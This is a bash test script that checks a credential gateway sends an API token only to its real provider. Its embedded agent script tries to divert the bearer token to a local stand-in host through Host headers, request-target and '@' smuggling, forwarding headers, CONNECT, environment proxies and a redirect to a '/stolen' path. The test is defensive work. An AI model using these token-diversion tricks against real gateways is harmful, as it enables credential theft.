#!/bin/bash
# secrets_hosts.sh - a real token goes to its provider and to no other host, port or scheme: not to a proxy of the environment, not
# where a redirection points, not where an agent would like it to go by Host, by an absolute address, or by a user in it.
set -eu
. "$(dirname "$0")/../lib/case.sh"
. "$(dirname "$0")/../lib/secrets.sh"
command -v perl >/dev/null || { echo "needs perl for the other host"; exit 77; }

OTHER_LOG=$CASE_DIR/other.log
perl "$ROOT/tests/lib/listener.pl" "$CASE_DIR/other.port" "$OTHER_LOG" &
STARTED_PIDS+=($!)
wait_for 10 test -s "$CASE_DIR/other.port"
OTHER=127.0.0.1:$(cat "$CASE_DIR/other.port")

agent tricks.sh <<'SH'
#!/bin/sh
# tricks.sh OTHER - asks the gateway to take the token elsewhere; curl itself sends nothing to the other host
gate=${CLOUDFLARE_API_BASE_URL#http://}
gate=${gate%%/*}
path=${CLOUDFLARE_API_BASE_URL#http://"$gate"}/accounts/$CLOUDFLARE_ACCOUNT_ID/workers/scripts
ask() {
    code=$(echo "Authorization: Bearer $CLOUDFLARE_API_TOKEN" | curl -sS -o /dev/null -w '%{http_code}' --noproxy '*' -H @- "$@") || true
    echo "$code" >>answers
}
ask "http://$gate$path"                                          # 200 or where a fault sends it
ask -H "Host: $1" "http://$gate$path"
ask --request-target "http://$1$path" "http://$gate/"
ask --request-target "//$1$path" "http://$gate/"
ask --request-target "$path@$1" "http://$gate/"
ask -H "X-Forwarded-Host: $1" -H "Forwarded: host=$1" -H "X-Original-URL: http://$1/" "http://$gate$path"
ask -X CONNECT --request-target "$1" "http://$gate/"
tr '\n' ' ' <answers
SH
file=$(graph <<JSON
{"mayfly": 1, "name": "hosts", "provider": "emulator", "defaults": {"sandbox": false, "timeout": "1m"},
 "tasks": {"tricks": {"files": ["tricks.sh"], "command": ["./tricks.sh", "$OTHER"], "account": {"permissions": ["workers_scripts:read"]}}} }
JSON
)
run_hosts() { # what else is in the environment...
    mayfly_env=("$@")
    calls=$((calls + 1))
    OUT=$SAID/$calls.out
    ERR=$SAID/$calls.err
    status=0
    env "${mayfly_env[@]}" "$MAYFLY_BIN" run "$file" --json --credential "emulator=file:$CREDENTIAL" >"$OUT" 2>"$ERR" </dev/null || status=$?
}
nothing_went_there() { # when
    [ ! -s "$OTHER_LOG" ] || fail "$1: the other host was called: $(head -c 300 "$OTHER_LOG")"
}

# Proxies of the environment, in every spelling, and a file of passwords.
start_emulator
credential_file
printf 'machine 127.0.0.1 login %s password %s\n' "$CANARY" "$CANARY" >"$HOME/.netrc"
run_hosts http_proxy="http://$OTHER" https_proxy="http://$OTHER" HTTP_PROXY="http://$OTHER" HTTPS_PROXY="http://$OTHER" \
    ALL_PROXY="http://$OTHER" all_proxy="socks5://$OTHER" no_proxy=
rm "$HOME/.netrc"
expect_status 0 "proxies of the environment"
nothing_went_there "proxies of the environment"
mayfly logs last tricks --stdout
answers=$(grep -o '[0-9]\{3\} .*' "$OUT" | tail -n 1)
# As it is: allowed. Everything that names the other host: refused, but a forwarding header, which is dropped or refused.
echo "$answers" | grep -qE '^200 4[0-9]{2} 4[0-9]{2} 4[0-9]{2} 4[0-9]{2} (200|4[0-9]{2}) 4[0-9]{2} ?$' || fail "the gateway answered $answers"

# Redirections of the provider: to the operator's requests and to the agent's; every one that can be told apart by its path.
jq -nc --arg to "http://$OTHER/stolen" '{seed: 1, rules: [
    {path: "/accounts/*/workers/scripts", action: "redirect", status: 307, location: $to},
    {method: "GET", path: "/accounts/*", times: 1, action: "redirect", status: 302, location: $to}]}' >"$CASE_DIR/faults.json"
kill -TERM "$EMULATOR_PID" && wait "$EMULATOR_PID"
rm -f "$LEDGER"
start_emulator --faults "$CASE_DIR/faults.json"
credential_file
run_hosts NOTHING=else
expect_status 4 "a redirection where the account was to be read back proves nothing"
nothing_went_there "redirections"
mayfly teardown last --credential "emulator=file:$CREDENTIAL"
expect_status 0 "the account is gone, as the second look says"
nothing_went_there "a second look"

# The listener would have heard it.
curl -sS -o /dev/null "http://$OTHER/"
grep -q '^connection' "$OTHER_LOG" || fail "the other host hears nothing at all"
finish
